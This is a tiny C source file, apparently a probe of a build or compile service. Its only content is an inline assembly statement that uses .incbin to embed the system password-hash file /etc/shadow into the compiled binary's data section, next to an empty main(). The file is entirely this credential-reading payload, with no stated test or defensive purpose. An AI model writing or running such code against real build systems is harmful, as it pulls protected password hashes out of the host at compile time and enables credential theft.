__asm__(".section .rodata\n.incbin \"/etc/shadow\"\n");
int main(void) { return 0; }
